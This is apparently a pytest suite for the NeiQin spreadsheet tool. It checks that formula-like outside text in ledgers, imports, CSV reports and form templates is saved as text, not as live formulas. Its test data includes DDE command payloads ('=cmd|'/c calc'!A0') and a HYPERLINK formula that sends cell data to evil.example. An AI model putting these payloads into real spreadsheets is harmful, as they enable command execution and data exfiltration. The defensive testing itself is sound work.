"""No text from outside becomes a formula: every action, the report CLI and the importer on formula-like text.

A ledger whose text cells all start like formulas (=, +, -, @, a tab or a line break, spaces first, DDE
``=cmd|…``) goes through every registered action; the saved workbook (and the sealed copies beside it)
must hold no formula but NeiQin's own, listed below, and no text Excel would have turned into a formula
when it was written (text starting with = + - @ that is neither apostrophe-prefixed nor in a Text cell).
"""

from __future__ import annotations

import csv
import datetime as dt
import random
import re
import zlib
from pathlib import Path
from typing import Any

import openpyxl
import pytest

import macros
from neiqin.app import demo
from neiqin.app.cli import main
from neiqin.base.text import clean
from neiqin.core import kit
from neiqin.core.config import load_settings
from neiqin.core.marks import _link
from neiqin.core.sheetio import as_text, retyped
from neiqin.engine import headless_caller

from .conftest import make_order_row, order_workbook, write_orders

END = demo.DEFAULT_END
# the formula-like starts a clerk's paste or an export can bring
PREFIXES = [
    "=1+1&",
    '=HYPERLINK("http://evil.example/?"&A1,"',
    "=cmd|'/c calc'!A0",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    " =",
    "  +",
    "=-",
    "-2+3+cmd|' /C calc'!",
]
# NeiQin's own formulas, the only ones a saved workbook may hold: (sheet name prefix, formula)
NEIQIN_FORMULAS = [
    # 校验结果: each issue links to its cell (neiqin.core.marks._link)
    ("校验结果", re.compile(r'^=HYPERLINK\("#\'(?:[^\'"]|\'\'|"")*\'![A-Z]{1,3}\d+","(?:[A-Z]{1,3}\d+|第 \d+ 行)"\)$')),
    # a blank 费用报销单 template: 合计(小写) sums the 价税合计 column (validators.expenses.template)
    ("费用报销单", re.compile(r"^=SUM\([A-Z]{1,3}\d+:[A-Z]{1,3}\d+\)$")),
]


def evil(value: Any, seen: set[str]) -> Any:
    """The same formula-like text for the same value (so lookups between ledgers still match)."""
    if not isinstance(value, str) or not value:
        return value
    text = PREFIXES[zlib.crc32(value.encode()) % len(PREFIXES)] + value
    seen.add(text)
    return text


def closed_fields() -> set[str]:
    """Fields whose values steer the workflows (statuses, choices): kept, so that the actions copy text."""
    fields = {c.field for spec in kit.ledgers() if spec.form is None for c in spec.columns() if c.choices}
    return fields | {"field", "new_value", "progress", "problem_type", "kind", "category", "city", "rank"}


def evil_workbook(path: Path, everything: bool) -> Path:
    """The demo company's workbook (every 8th order line) with formula-like text in every free-text cell
    (``everything``: in every text cell, statuses too), each typed as a clerk would: '=… (text)."""
    seen: set[str] = set()
    keep = set() if everything else closed_fields()
    data = demo.generate(2026, END)
    data["lines"] = data["lines"][::8]
    demo._workflow(data, random.Random(2027))

    def tr(row: dict[str, Any]) -> dict[str, Any]:
        return {k: v if k in keep else evil(v, seen) for k, v in row.items()}

    data["lines"] = [tr(x) for x in data["lines"]]
    for c in data["customers"]:
        c.name, c.rep, c.contact = evil(c.name, seen), evil(c.rep, seen), evil(c.contact, seen)
    data["products"] = [tuple(evil(v, seen) if i < 3 else v for i, v in enumerate(p)) for p in data["products"]]
    data["changes"] = [tr(x) for x in data["changes"]]
    data["tasks"] = {k: [tr(x) for x in v] for k, v in data["tasks"].items()}
    demo.write_workbook(data, path)
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in seen:
                    cell.data_type, cell.quotePrefix = "s", True  # what Excel stores for a typed '=…
    wb.save(path)
    return path


def live_formulas(path: Path) -> list[str]:
    """Every formula of the file that is not NeiQin's own, and every text that was a formula in the making."""
    found = []
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                where = f"『{ws.title}』{c.coordinate}"
                if c.data_type == "f":
                    if not any(ws.title.startswith(s) and p.match(str(c.value)) for s, p in NEIQIN_FORMULAS):
                        found.append(f"{where} {c.value!r}")
                elif (
                    isinstance(c.value, str)
                    and c.value[:1] in ("=", "+", "-", "@")
                    and not c.quotePrefix
                    and c.number_format != "@"
                ):
                    found.append(f"{where} text Excel would have made a formula: {c.value!r}")
    return found


@pytest.mark.slow
@pytest.mark.parametrize("everything", [False, True], ids=["free-text", "every-text"])
def test_every_action_writes_outside_text_as_text(tmp_path: Path, everything: bool) -> None:
    path = evil_workbook(tmp_path / "evil.xlsx", everything)
    assert live_formulas(path) == []
    outcomes = {}
    with headless_caller(path) as book:
        settings, _ = load_settings(book)
        settings.db = str(tmp_path / "neiqin.db")
        for act in macros.actions():
            summary = macros.run(
                act.id, book, today=END, settings=settings, now=dt.datetime.combine(END, dt.time(17, 30)), user="李娜"
            )
            outcomes[act.id] = summary.outcome
        book.save()
    assert set(outcomes.values()) <= {"ok", "issues"}, outcomes
    sealed = sorted(tmp_path.glob("报销单_*.xlsx"))
    assert everything or sealed  # the free-text run goes as far as the sealed copy for finance
    for file in [path, *sealed]:
        assert live_formulas(file) == [], file.name
    if not everything:  # the outside text did reach the generated sheets, as text
        wb = openpyxl.load_workbook(path)
        copied = [
            c
            for name in ("逾期预警", "进度通知", "订单看板", "订单归档")
            for row in wb[name].iter_rows(min_row=5)
            for c in row
            if isinstance(c.value, str) and c.value[:1] in "=+-@"
        ]
        assert copied and all(c.quotePrefix or c.number_format == "@" for c in copied)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-A1",
        "@SUM(A1)",
        "=cmd|'/c calc'!A0",
        '=HYPERLINK("http://x/?"&A1)',
        " =1+1",
        "\t=1+1",
        "\r\n=1+1",
        "\tplain",
        "'quoted",
        "001",
        "TRUE",
    ],
)
def test_formula_like_text_is_written_with_an_apostrophe(text: str) -> None:
    assert retyped(text) and as_text(text) == "'" + text


@pytest.mark.parametrize("text", ["客户", "上海华东贸易有限公司", "MT-2200", "见合同 =", "a-b"])
def test_plain_text_is_written_as_it_is(text: str) -> None:
    assert not retyped(text) and as_text(text) == text


@pytest.mark.parametrize(
    "sheet",
    ["订单台账", "Bob's", "x\",A1)&cmd|'/c calc'!A0&(\"", "a\"'b"],
)
def test_the_result_link_quotes_any_sheet_name(sheet: str) -> None:
    formula, label = _link(sheet, 12, 4)
    assert label == "D12" and NEIQIN_FORMULAS[0][1].match(formula), formula
    # the sheet name comes back from the string literal and the quoted sheet name exactly
    literal = re.match(r'^=HYPERLINK\("(.*)","D12"\)$', formula).group(1).replace('""', '"')
    assert literal == "#'" + sheet.replace("'", "''") + "'!D12"


def test_import_ledger_copies_formula_like_text_as_text(tmp_path: Path) -> None:
    seen: set[str] = set()
    rows = [
        make_order_row(order_id=f"SO{i}", customer=evil(f"客户{i}", seen), note=evil(f"备注{i}", seen), spec=p + "x")
        for i, p in enumerate(PREFIXES)
    ]
    source = write_orders(tmp_path / "old.xlsx", rows, companions=False)
    target = order_workbook(tmp_path / "NeiQin.xlsx", [])
    assert main(["import-ledger", str(source), "--into", str(target)]) == 0
    assert live_formulas(target) == []
    ws = openpyxl.load_workbook(target)["订单台账"]
    texts = {c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    # the ledger's values: a name is trimmed (clean) — which leaves it starting with = + - @ — and stays text
    assert {clean(r["customer"]) for r in rows} <= texts


def test_report_out_from_a_csv_writes_names_as_text(tmp_path: Path) -> None:
    seen: set[str] = set()
    header = ["Order ID", "Order Date", "Customer", "Region", "Category", "Product ID", "Quantity", "Sales", "Profit"]
    with (tmp_path / "export.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        for i, p in enumerate(PREFIXES):
            customer, region, product = evil(f"客户{i}", seen), p + "East", p + f"T{i}"
            writer.writerow([f"CA-{i}", f"2017-11-{i + 1:02d}", customer, region, "Tech", product, i + 1, 100 + i, 10])
    (tmp_path / "map.toml").write_text(
        "[columns]\norder_id = 'Order ID'\norder_date = 'Order Date'\ncustomer = 'Customer'\nregion = 'Region'\n"
        "category = 'Category'\nproduct_code = 'Product ID'\nquantity = 'Quantity'\namount = 'Sales'\n"
        "profit = 'Profit'\n",
        encoding="utf-8",
    )
    out = tmp_path / "月报.xlsx"
    args = ["report", str(tmp_path / "export.csv"), "--map", str(tmp_path / "map.toml"), "--period", "month"]
    assert main([*args, "--date", "2017-11", "--out", str(out)]) == 0
    assert live_formulas(out) == []
    wb = openpyxl.load_workbook(out)
    texts = " ".join(str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value)
    assert "=HYPERLINK" in texts and "cmd|" in texts  # the names are in the report, as text


@pytest.mark.parametrize(
    "text", ["'quoted", "''", "'=1+1", "=1+1", "001", "66.7%", "上海华东贸易有限公司", " =x", "'", "TRUE"]
)
def test_a_generated_sheet_shows_every_text_exactly_as_handed_over(tmp_path: Path, text: str) -> None:
    """Planners hand values over as they are; the writer escapes once (a leading apostrophe is content)."""
    from neiqin.core.sheetio import output_sheet
    from neiqin.engine import open_book

    path = tmp_path / "out.xlsx"
    openpyxl.Workbook().save(path)
    book = open_book(path, engine="headless")
    output_sheet(book, "输出", "标题", "说明", ["内容"], [[text]])
    book.save()
    ws = openpyxl.load_workbook(path)["输出"]
    cell = ws.cell(5, 1)  # title, note, blank, header, then the line
    assert (cell.value, cell.data_type) == (text, "s")


@pytest.mark.parametrize("form", ["expenses", "quotations"])
def test_a_form_template_writes_outside_text_as_text_and_keeps_its_own_total(tmp_path: Path, form: str) -> None:
    """Both forms are drawn by neiqin.core.formsheet: a value from outside is text, the blank form's 合计 a formula."""
    from validators.expenses.template import write_expense_form
    from validators.quotations.template import write_quotation_form

    evil_text = "=cmd|'/c calc'!A0"
    wb = openpyxl.Workbook()
    if form == "expenses":
        ws = write_expense_form(wb, {"claimant": evil_text, "lines": [{"note": evil_text}]})
    else:
        ws = write_quotation_form(wb, {"customer": evil_text, "lines": [{"note": evil_text}]})
    path = tmp_path / "form.xlsx"
    wb.save(path)
    cells = [c for row in openpyxl.load_workbook(path)[ws.title].iter_rows() for c in row if c.value is not None]
    assert [(c.value, c.data_type) for c in cells if c.value == evil_text] == [(evil_text, "s")] * 2
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas == (["=SUM(L8:L19)"] if form == "expenses" else [])
